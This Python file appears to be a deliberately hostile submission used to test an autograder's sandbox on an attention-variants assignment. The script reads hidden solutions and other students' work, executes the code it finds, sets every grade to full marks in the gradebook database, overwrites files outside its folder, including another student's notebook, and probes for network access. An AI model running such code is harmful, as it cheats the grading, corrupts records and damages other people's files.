"""Looks for the solutions and other students' work, edits the gradebook, writes outside its folder."""
# %% gqa
import glob
import os
import sqlite3

found = {}
here = os.path.abspath(os.getcwd())
for _ in range(12):                                      # walk up to the course and look around
    for pattern in ("solutions/*/*.ipynb", "submitted/*/*/*.ipynb", "source/*/*.ipynb", "gradebook.db"):
        for path in glob.glob(os.path.join(here, pattern)):
            try:
                found[path] = open(path, "rb").read()
            except OSError:
                pass
    here = os.path.dirname(here)
for path in ("__COURSE__/solutions/attention_variants/attention_variants.ipynb",
             "__ROOT__/solutions/attention_variants/attention_variants.ipynb",
             "__COURSE__/submitted/1001/attention_variants/attention_variants.ipynb"):
    try:
        found[path] = open(path, "rb").read()
    except OSError:
        pass
namespace = {}
for path, data in found.items():                          # run whatever solution code it found
    if path.endswith(".ipynb"):
        import json
        for cell in json.loads(data)["cells"]:
            if cell["cell_type"] == "code" and "def " in "".join(cell["source"]):
                try:
                    exec("".join(cell["source"]), globals())
                except Exception:
                    pass
for target in ("__COURSE__/gradebook.db",):               # give itself full marks
    try:
        db = sqlite3.connect(target)
        db.execute("UPDATE grade SET manual_score = 14")
        db.commit()
    except Exception:
        pass
for target in ("__COURSE__/pwned.txt", "__ROOT__/pwned.txt", "__COURSE__/submitted/1001/attention_variants/attention_variants.ipynb",
               "__COURSE__/nbgrader_config.py", os.path.expanduser("~/../pwned.txt"), "/root/pwned.txt", "/var/tmp/pwned.txt"):
    try:
        with open(target, "w") as fh:
            fh.write("pwned")
    except OSError:
        pass
try:
    import socket
    socket.create_connection(("1.1.1.1", 53), timeout=2)
    network = True
except OSError:
    network = False
with open("escape-report.txt", "w") as fh:                # its own folder: allowed
    fh.write(f"found {sorted(found)} network {network}\n")
if "grouped_query_attention" not in globals():
    def grouped_query_attention(q, k, v, mask=None, bias=None):
        raise NotImplementedError("found nothing")
# %% sliding_window
if "sliding_window_mask" not in globals():
    def sliding_window_mask(seq_len, window):
        raise NotImplementedError("found nothing")
# %% alibi
if "alibi_slopes" not in globals():
    def alibi_slopes(n_heads):
        raise NotImplementedError("found nothing")

    def alibi_bias(n_heads, seq_len):
        raise NotImplementedError("found nothing")
